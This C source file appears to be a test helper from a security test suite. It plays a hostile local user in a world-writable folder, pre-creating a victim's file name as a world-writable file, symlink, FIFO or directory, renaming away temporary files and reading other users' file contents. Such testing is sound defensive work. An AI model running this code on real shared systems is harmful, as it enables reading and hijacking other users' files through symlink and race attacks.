/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Another user in a shared folder: attack_names FOLDER NAME FILE.
 *
 * FOLDER is one that all may write to. Before and while somebody writes NAME there, this user makes
 * it first: as a file that all may write, as one that is open already, as links to FILE, which is
 * not his, as a FIFO, as a folder; and he takes away, or opens, whatever temporary name comes up.
 * Prints what he got, a line each: `got NAME BYTES`, bytes of another's file that he could read;
 * `wrote`, if one of another's took what he wrote. Ends when standard input is closed.
 */
#include "attack_fuse.h"

#include <dirent.h>
#include <poll.h>

static int was_first = -1;
static long got_count;

static void make_name(const char *name, const char *file, unsigned way)
{
	unlink(name);
	rmdir(name);
	if (way % 6 == 0 || way % 6 == 1) {
		if (was_first >= 0)
			close(was_first);
		was_first = open(name, O_RDWR | O_CREAT | O_CLOEXEC, 0666);
		if (way % 6 == 1)
			fchmod(was_first, 0666);
	} else if (way % 6 == 2) {
		if (symlink(file, name))
			return;
	} else if (way % 6 == 3) {
		if (symlink("mine", name))
			return;
	} else if (way % 6 == 4) {
		mkfifo(name, 0666);
	} else {
		mkdir(name, 0777);
	}
}

/* Whatever of another user's can be read here, or of what this one holds open. */
static void look_at(const char *name, int fd)
{
	struct stat status;
	char text[64];
	ssize_t got;

	if (fd < 0 || fstat(fd, &status) || !S_ISREG(status.st_mode))
		return;
	got = pread(fd, text, sizeof(text), 0);
	if (got > 0 && ++got_count < 100) {
		printf("got %s %zd uid=%u mode=%o\n", name, got, status.st_uid, status.st_mode);
		fflush(stdout);
	}
}

static void look_around(const char *own)
{
	struct dirent *entry;
	DIR *folder = opendir(".");

	while (folder && (entry = readdir(folder))) {
		int fd;

		if (entry->d_name[0] == '.' && strlen(entry->d_name) < 3)
			continue;
		fd = open(entry->d_name, O_RDWR | O_NONBLOCK | O_NOFOLLOW | O_CLOEXEC);
		if (fd < 0)
			fd = open(entry->d_name, O_RDONLY | O_NONBLOCK | O_NOFOLLOW | O_CLOEXEC);
		if (fd >= 0)
			look_at(entry->d_name, fd);
		if (fd >= 0)
			close(fd);
		if (strcmp(entry->d_name, own) != 0 && strcmp(entry->d_name, "mine") != 0)
			(void)rename(entry->d_name, "mine");
	}
	if (folder)
		closedir(folder);
}

int main(int argc, char **argv)
{
	struct pollfd end = { .fd = STDIN_FILENO, .events = POLLIN | POLLHUP };

	umask(0);
	if (argc < 4 || chdir(argv[1]))
		victim_cannot("FOLDER");
	attack_drop();
	make_name(argv[2], argv[3], 0);
	victim_ready("mode=names uid=%u", geteuid());
	for (unsigned i = 0; poll(&end, 1, 1) == 0; i++) {
		if (i % 32 == 0)
			make_name(argv[2], argv[3], i / 32);
		look_around(argv[2]);
		look_at("held", was_first);
	}
	return 0;
}
